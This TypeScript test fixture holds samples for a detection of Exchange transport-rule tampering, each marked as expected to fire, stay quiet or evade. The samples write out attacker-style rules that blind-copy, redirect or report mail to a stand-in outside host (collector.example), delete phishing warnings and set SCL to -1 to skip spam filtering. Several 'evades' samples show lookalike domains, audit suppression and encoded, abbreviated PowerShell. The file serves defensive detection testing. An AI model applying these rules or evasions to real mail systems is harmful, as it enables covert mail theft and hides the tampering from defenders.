import type { DetectionSamples } from './detection.ts';
import {
  ADMIN,
  adminRecord,
  cloudAppEvent,
  cmdletLog,
  encodedScript,
  officeActivity,
  processRow,
  TOMAS,
} from './sample-records.ts';

const NEW = 'New-TransportRule';
const SET = 'Set-TransportRule';
const BY_ADMIN = { UserId: ADMIN };

export const transportRuleTamperingSamples: DetectionSamples = {
  detection: 'transport-rule-tampering',
  samples: [
    {
      name: 'deletes warnings',
      expect: 'fires',
      severity: 'high',
      records: [
        adminRecord(
          NEW,
          { Name: 'Transport sync', SubjectContainsWords: 'phishing;unusual sign-in', DeleteMessage: 'True' },
          BY_ADMIN,
        ),
      ],
    },
    {
      name: 'blind copy out of the organisation',
      expect: 'fires',
      severity: 'high',
      records: [adminRecord(NEW, { Name: 'Archive copy', BlindCopyTo: 'keeper@collector.example' }, BY_ADMIN)],
    },
    {
      name: 'blind copy to a colleague',
      expect: 'fires',
      severity: 'medium',
      records: [adminRecord(NEW, { Name: 'Archive copy', BlindCopyTo: TOMAS }, BY_ADMIN)],
    },
    {
      name: 'past the spam filter, on premises',
      expect: 'fires',
      severity: 'medium',
      records: [cmdletLog(SET, '-Identity "Partner mail" -SetSCL "-1"')],
    },
    {
      name: 'a disclaimer',
      expect: 'fires',
      severity: 'low',
      records: [adminRecord(NEW, { Name: 'Disclaimer', ApplyHtmlDisclaimerText: 'Confidential' }, BY_ADMIN)],
    },
    {
      name: 'an action is taken back',
      expect: 'fires',
      severity: 'low',
      records: [adminRecord(SET, { Identity: 'Old rule', DeleteMessage: 'False', BlindCopyTo: '' }, BY_ADMIN)],
    },
    {
      name: 'made but turned off',
      expect: 'fires',
      severity: 'low',
      records: [adminRecord(NEW, { Name: 'Staged rule', DeleteMessage: 'True', Enabled: 'False' }, BY_ADMIN)],
    },
    {
      name: 'marks mail of a gateway',
      expect: 'fires',
      severity: 'low',
      records: [
        adminRecord(NEW, { Name: 'Gateway mark', SetHeaderName: 'X-Gateway', SetHeaderValue: 'passed' }, BY_ADMIN),
      ],
    },
    { name: 'rules are listed', expect: 'quiet', records: [adminRecord('Get-TransportRule', { State: 'Enabled' })] },
    {
      name: 'transport settings, not a rule',
      expect: 'quiet',
      records: [adminRecord('Set-TransportConfig', { JournalingReportNdrTo: 'j@halden-optics.example' })],
    },
    {
      name: 'a rule is removed, which is another matter',
      expect: 'quiet',
      records: [adminRecord('Remove-TransportRule', { Identity: 'Old rule' }, BY_ADMIN)],
    },
    {
      name: 'a domain that looks like the own one',
      expect: 'evades',
      severity: 'high',
      records: [
        adminRecord(NEW, { Name: 'Archive copy', CopyTo: 'a@halden-optics.example.collector.example' }, BY_ADMIN),
        adminRecord(NEW, { Name: 'Archive copy', CopyTo: 'a@halden\u2010optics.example' }, BY_ADMIN),
      ],
    },
    {
      name: 'one recipient inside hides one outside',
      expect: 'evades',
      severity: 'high',
      records: [
        adminRecord(
          NEW,
          { Name: 'Team copy', RedirectMessageTo: `"${TOMAS}" <drop@collector.example>;${TOMAS}` },
          BY_ADMIN,
        ),
      ],
    },
    {
      name: 'past the filters by a header that Exchange obeys',
      expect: 'evades',
      severity: 'medium',
      records: [
        adminRecord(
          NEW,
          { Name: 'Partner mail', SetHeaderName: 'x-ms-exchange-Organization-SCL', SetHeaderValue: '-1' },
          BY_ADMIN,
        ),
      ],
    },
    {
      name: 'a mail contact instead of an address',
      expect: 'evades',
      severity: 'high',
      records: [adminRecord(NEW, { Name: 'Team copy', AddToRecipients: 'Compliance Archive' }, BY_ADMIN)],
    },
    {
      name: 'a partner sends to the own domain, which is not the tenant\u2019s',
      expect: 'evades',
      severity: 'high',
      records: [
        adminRecord(
          NEW,
          { Name: 'Partner copy', BlindCopyTo: 'x@helpful-partner.example' },
          {
            UserId: 'tech@helpful-partner.example',
            UserType: 9,
          },
        ),
      ],
    },
    {
      name: 'a quarantine that nobody is to audit',
      expect: 'evades',
      severity: 'high',
      records: [
        officeActivity(
          adminRecord(SET, { Identity: 'Filter', Quarantine: 'True', SetAuditSeverity: 'doNotAudit' }, BY_ADMIN),
        ),
      ],
    },
    {
      name: 'a report that carries the message',
      expect: 'evades',
      severity: 'high',
      records: [
        cloudAppEvent(
          adminRecord(
            NEW,
            {
              Name: 'DLP report',
              GenerateIncidentReport: 'x@collector.example',
              IncidentReportContent: 'AttachOriginalMail',
            },
            BY_ADMIN,
          ),
        ),
      ],
    },
    {
      name: 'abbreviated and encoded, headers stripped',
      expect: 'evades',
      severity: 'high',
      records: [
        processRow(`powershell -enco ${encodedScript("Set-TransportRule 'Partner mail' -RemoveH 'Received'")}`),
      ],
    },
    {
      name: 'moderation by somebody outside, given to a program',
      expect: 'evades',
      severity: 'high',
      records: [
        processRow(
          `powershell -c "saps powershell -Arg '-c ${NEW} Approvals -Mod x@collector.example -ModerateMessageByU x@collector.example'"`,
        ),
      ],
    },
  ],
};
